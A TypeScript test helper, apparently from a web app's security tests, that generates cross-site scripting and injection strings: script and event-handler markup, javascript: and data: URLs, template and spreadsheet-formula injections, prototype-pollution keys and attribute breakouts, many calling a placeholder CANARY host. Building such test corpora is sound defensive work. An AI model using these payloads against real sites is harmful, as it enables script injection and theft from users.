import { removeInvisibleCharacters } from '@markaz/protocol/visible-text'
import { unifyApostrophes } from '../../web/src/shared/format/apostrophe.ts'

/**
 * Texts with HTML markup. A browser that runs such a text shows an element with `data-hostile`, calls `hostileRan`, or
 * sends a request to the host `CANARY`.
 */
const markups = [
  '<script data-hostile>hostileRan()</script>',
  '<script data-hostile src=//CANARY/x.js></script>',
  '<img data-hostile src=x onerror=hostileRan()>',
  '<img data-hostile src=//CANARY/pixel.png>',
  '<img data-hostile srcset="//CANARY/p.png 1x">',
  '<svg data-hostile onload=hostileRan()>',
  '<svg data-hostile><script>hostileRan()</script></svg>',
  '<svg data-hostile><animate onbegin=hostileRan() attributeName=x dur=1s>',
  '<svg data-hostile><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'/>#x">',
  '<svg data-hostile><foreignObject><iframe srcdoc="<script>parent.hostileRan()</script>">',
  '<math data-hostile><mtext><img src=x onerror=hostileRan()></mtext></math>',
  '<iframe data-hostile src="javascript:parent.hostileRan()"></iframe>',
  '<iframe data-hostile srcdoc="<script>parent.hostileRan()</script>"></iframe>',
  '<iframe data-hostile src=//CANARY/></iframe>',
  '<object data-hostile data="javascript:hostileRan()"></object>',
  '<embed data-hostile src="data:text/html,<script>parent.hostileRan()</script>">',
  '<a data-hostile href="javascript:hostileRan()">bosing</a>',
  '<a data-hostile href="JaVaScRiPt&colon;hostileRan()">bosing</a>',
  '<a data-hostile href="data:text/html,<script>hostileRan()</script>">bosing</a>',
  '<a data-hostile href=//CANARY ping=//CANARY/ping>bosing</a>',
  '<form data-hostile action=//CANARY><button>bosing</button></form>',
  '<form data-hostile><button formaction="javascript:hostileRan()">bosing</button></form>',
  '<input data-hostile autofocus onfocus=hostileRan()>',
  '<select data-hostile autofocus onfocus=hostileRan()></select>',
  '<textarea data-hostile autofocus onfocus=hostileRan()></textarea>',
  '<details data-hostile open ontoggle=hostileRan()><summary>x</summary></details>',
  '<video data-hostile autoplay onerror=hostileRan()><source src=x></video>',
  '<audio data-hostile src=x onerror=hostileRan()></audio>',
  '<video data-hostile poster=//CANARY/p.png></video>',
  '<body data-hostile onload=hostileRan()>',
  '<link data-hostile rel=stylesheet href=//CANARY/x.css>',
  '<link data-hostile rel=prefetch href=//CANARY/x>',
  '<style data-hostile>@import "//CANARY/x.css"; body{background:url(//CANARY/b.png)}</style>',
  '<div data-hostile style="background:url(//CANARY/b.png)">x</div>',
  '<div data-hostile style="animation-name:x" onanimationstart=hostileRan()>x</div>',
  '<meta data-hostile http-equiv=refresh content="0;url=//CANARY">',
  '<base data-hostile href=//CANARY/>',
  '<template data-hostile><img src=x onerror=hostileRan()></template>',
  '<noscript data-hostile><p title="</noscript><img src=x onerror=hostileRan()>">',
  '<marquee data-hostile onstart=hostileRan()>x</marquee>',
  '<table data-hostile background=//CANARY/b.png><tr><td>x</table>',
  '<button data-hostile popovertarget=x onclick=hostileRan()>x</button><p popover id=x>',
  '<dialog data-hostile open onclose=hostileRan()>x</dialog>',
  '<xss data-hostile contenteditable autofocus onfocus=hostileRan()>x</xss>',
]

/** Texts that are dangerous as an address, a template, a spreadsheet formula, or the name of a built-in property. */
const texts = [
  'javascript:hostileRan()',
  ' \u0001javascript:hostileRan()',
  'java\nscript:hostileRan()',
  'JAVASCRIPT:hostileRan()',
  'data:text/html,<script>hostileRan()</script>',
  'vbscript:hostileRan()',
  '//CANARY/x',
  'http://CANARY/x',
  '{{constructor.constructor("hostileRan()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a program that fills in templates would run it
  '${hostileRan()}',
  '#{hostileRan()}',
  '<%= hostileRan() %>',
  '=HYPERLINK("//CANARY","x")',
  '[bosing](javascript:hostileRan())',
  '![x](//CANARY/p.png)',
  '__proto__',
  'constructor',
  'toString',
  '&lt;img src=x onerror=hostileRan()&gt;',
  '\u202egnp.exe\u202c',
  '\\"; hostileRan(); //',
  "'-hostileRan()-'",
  '</script><script>hostileRan()</script>',
  ']]><script>hostileRan()</script>',
]

/** Prefixes that close the attribute or element into which a page might insert a hostile text. */
const breakouts = ['', '">', "'>", '</textarea></title></style></script>']

/** @param canary host and port to which no page may send a request */
export const injectionTexts = (canary: string): string[] =>
  [...breakouts.flatMap((breakout) => markups.map((markup) => breakout + markup)), ...texts].map((text) =>
    text.replaceAll('CANARY', canary),
  )

/**
 * Returns the text as a screen shows it: without invisible characters and repeated spaces, and with one kind of
 * apostrophe.
 */
export const textAsDisplayed = (text: string): string =>
  String(unifyApostrophes(removeInvisibleCharacters(text)))
    .replace(/[\s\p{Cc}]+/gu, ' ')
    .trim()
